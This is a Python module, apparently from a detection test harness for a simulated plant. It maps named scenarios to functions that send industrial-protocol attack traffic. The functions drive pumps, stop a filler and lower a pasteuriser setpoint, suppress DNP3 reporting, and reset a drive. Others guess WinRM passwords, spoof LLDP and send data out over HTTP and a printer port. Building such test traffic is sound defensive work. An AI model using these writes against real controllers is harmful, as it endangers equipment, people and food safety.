"""Attacks from machines that belong to the plant: what was taken over does nearly what it always does."""

from __future__ import annotations

import asyncio
import base64
import contextlib
import http.client
import struct
import time
from typing import TYPE_CHECKING, Final

from asyncua import Client, ua

from interlock.plant.machines import BY_NAME
from interlock.plant.protocols import cip, dnp3, modbus, s7comm
from interlock.plant.wire.frames import ethernet
from proving.clients.talk import Talk, ping, send_frames, tell

if TYPE_CHECKING:
    from collections.abc import Callable

_MODBUS: Final = 502
_PAUSES_S: Final = (2.0, 5.5, 1.2, 7.0, 3.1, 6.2, 1.7)
"""Of a caller that wants not to be seen as a clock."""


def drive_driven(to: str) -> None:
    """The water controller itself drives the pump to its end and stops it, between its usual commands."""
    with Talk(to, _MODBUS) as talk:
        for number in range(8):
            talk.say(modbus.adu(number + 1, 1, modbus.write_register(0, (9900, 0)[number % 2])), 1.0)


def filler_stopped(to: str) -> None:
    """The panel stops the filler by its tag, once."""
    with Talk(to, 44818) as talk:
        session = cip.session_of(talk.say(cip.register()))
        talk.say(cip.unconnected(session, cip.write_tag("Filler_Run", 0.0), 1), 1.0)
        time.sleep(6.0)
        talk.say(cip.unconnected(session, cip.write_tag("Filler_Run", 1.0), 2), 1.0)


def pasteurised_less(to: str) -> None:
    """The panel sets the pasteuriser too cold, over a channel without security."""

    async def do() -> None:
        async with Client(f"opc.tcp://{to}:4840", timeout=2) as client:
            node = client.get_node("ns=2;s=Pasteuriser.TemperatureSetpoint")
            await node.write_value(ua.DataValue(ua.Variant(66.0, ua.VariantType.Double)))
            await asyncio.sleep(4.0)
            await node.write_value(ua.DataValue(ua.Variant(76.0, ua.VariantType.Double)))

    with contextlib.suppress(Exception):
        asyncio.run(do())


def schedule_written(to: str) -> None:
    """BACnet: who has a schedule is asked, and the schedule's value written by the panel."""
    who_has = bytes((0x10, 7)) + b"\x2c" + struct.pack("!I", 17 << 22 | 1)
    own = b"\x0c" + struct.pack("!I", 17 << 22 | 1)
    write = bytes((0, 5, 3, 15)) + own + b"\x19\x55\x3e\x91\x01\x3f"
    asked = [
        b"\x81\x0a" + struct.pack("!H", 6 + len(apdu)) + b"\1\4" + apdu for apdu in (who_has, write, write)
    ]
    tell(to, 47808, *asked, pause_s=0.6)


def posted_outside(to: str) -> None:
    """Records leave by HTTP, 200 KiB at a time."""
    for number in range(4):
        with contextlib.suppress(OSError, http.client.HTTPException):
            talk = http.client.HTTPConnection(to, 80, timeout=2)
            talk.request(
                "POST", f"/u/{number}", bytes(range(256)) * 800, {"Content-Type": "application/octet-stream"}
            )
            talk.getresponse().read()
            talk.close()
        time.sleep(2.0)


def managed_by_guesses(to: str) -> None:
    """WinRM: accounts tried from the panel, ten of them."""
    for number in range(10):
        with contextlib.suppress(OSError, http.client.HTTPException):
            talk = http.client.HTTPConnection(to, 5985, timeout=1)
            word = base64.b64encode(f"administrator:Winter{number}".encode()).decode("ascii")
            talk.request("POST", "/wsman", b"<s:Envelope/>", {"Authorization": f"Basic {word}"})
            talk.getresponse().read()
            talk.close()
        time.sleep(0.5)


def desktop_opened(to: str) -> None:
    """RDP: the panel connects to the historian's desktop."""
    asked = b"\xe0\0\0\0\0\0Cookie: mstshash=operator\r\n" + b"\x01\0\x08\0\x03\0\0\0"
    octets = struct.pack("!BBH", 3, 0, len(asked) + 5) + bytes((len(asked),)) + asked
    for _ in range(2):
        with Talk(to, 3389) as talk:
            talk.say(octets, 2.0)


def neighbour_posed(to: str) -> None:  # noqa: ARG001 - to the group
    """LLDP in the switch's name, from somebody else's card: management follows it."""
    switch, mine = BY_NAME["switch"].end.mac, BY_NAME["vendor-laptop"].end.mac
    lldp = (
        b"\x02\x07\x04" + switch + b"\x04\x03\x07p9" + b"\x06\x02\x00\x78" + b"\x0a\x06switch" + b"\x00\x00"
    )
    send_frames([ethernet(bytes.fromhex("0180c200000e"), mine, 0x88CC, lldp)] * 6, 1.5)


def addresses_pinged(to: str) -> None:
    """Every address asked by ICMP whether it is there, by the historian."""
    net = to.rpartition(".")[0]
    for host in range(1, 50):
        ping(f"{net}.{host}", 1, 0.2)


def names_of_addresses(to: str) -> None:
    """DNS: the name of each address asked for, one after another."""
    for host in range(10, 45):
        name = b"".join(bytes((len(part),)) + part for part in (str(host).encode(), b"1", b"77", b"10"))
        asked = struct.pack("!HHHHHH", host, 0x100, 1, 0, 0, 0) + name + b"\x07in-addr\x04arpa\0\0\x0c\0\1"
        tell(to, 53, asked, pause_s=0.15)


def called_unevenly(to: str) -> None:
    """A page outside asked for again and again, never after the same pause."""
    for number, pause in enumerate(_PAUSES_S):
        with contextlib.suppress(OSError, http.client.HTTPException):
            talk = http.client.HTTPConnection(to, 80, timeout=2)
            talk.request("GET", f"/news/{number * 7919:x}")
            talk.getresponse().read()
            talk.close()
        time.sleep(pause)


def deadbands_widened(to: str) -> None:
    """DNP3: analog deadbands written by the panel, so that nothing is reported any more (group 34)."""
    with Talk(to, 20000) as talk:
        for number in range(3):
            points = b"\x22\x03\x17\x02" + b"".join(bytes((k,)) + struct.pack("<f", 1e6) for k in range(2))
            talk.say(dnp3.request(number, 2, points), 1.0)


def station_looked_at(to: str) -> None:
    """S7: what the controller is, asked by the panel, which only ever reads its values."""
    with Talk(to, 102) as talk:
        talk.say(s7comm.connect())
        talk.say(s7comm.setup(1))
        for number, szl in enumerate((0x11, 0x1C, 0x131, 0x424, 0x232)):
            talk.say(s7comm.szl(2 + number, szl, 0), 0.8)


def drive_reset(to: str) -> None:
    """CIP: the pump's drive restarted by the engineering station, without an order."""
    with Talk(to, 44818) as talk:
        session = cip.session_of(talk.say(cip.register()))
        talk.say(cip.unconnected(session, cip.request(5, cip.object_path(1, 1), b"\0"), 1), 2.0)


def building_reads_water(to: str) -> None:
    """The building's controller, a cheap box, reads what the water's controller has."""
    with Talk(to, _MODBUS) as talk:
        for number in range(12):
            talk.say(modbus.adu(number + 1, 1, modbus.read(4, 0, 5)), 1.0)


def time_from_elsewhere(to: str) -> None:
    """A controller asks a time server outside, whose answers nobody checks."""
    for _ in range(4):
        tell(to, 123, b"\x23" + bytes(47), pause_s=1.5)


def values_for_a_printer(to: str) -> None:
    """A controller pushes octets to the panel's print port: data leave by a way that nobody watches."""
    for _ in range(3):
        with Talk(to, 9100) as talk:
            talk.say(b"\x1b%-12345X" + bytes(range(256)) * 4, 1.5)


def coils_in_one_write(to: str) -> None:
    """Modbus: the panel writes every coil with one request, for the first time by that function."""
    with Talk(to, _MODBUS) as talk:
        talk.say(modbus.adu(1, 1, struct.pack("!BHHBB", 15, 0, 8, 1, 0)), 3.0)
        talk.say(modbus.adu(2, 1, struct.pack("!BHHBB", 15, 0, 8, 1, 1)), 1.0)


CLIENTS: Final[dict[str, Callable[[str], None]]] = {
    "drive-driven": drive_driven,
    "filler-stopped": filler_stopped,
    "pasteurised-less": pasteurised_less,
    "schedule-written": schedule_written,
    "posted-outside": posted_outside,
    "managed-by-guesses": managed_by_guesses,
    "desktop-opened": desktop_opened,
    "neighbour-posed": neighbour_posed,
    "addresses-pinged": addresses_pinged,
    "names-of-addresses": names_of_addresses,
    "called-unevenly": called_unevenly,
    "deadbands-widened": deadbands_widened,
    "station-looked-at": station_looked_at,
    "drive-reset": drive_reset,
    "building-reads-water": building_reads_water,
    "time-from-elsewhere": time_from_elsewhere,
    "values-for-a-printer": values_for_a_printer,
    "coils-in-one-write": coils_in_one_write,
}
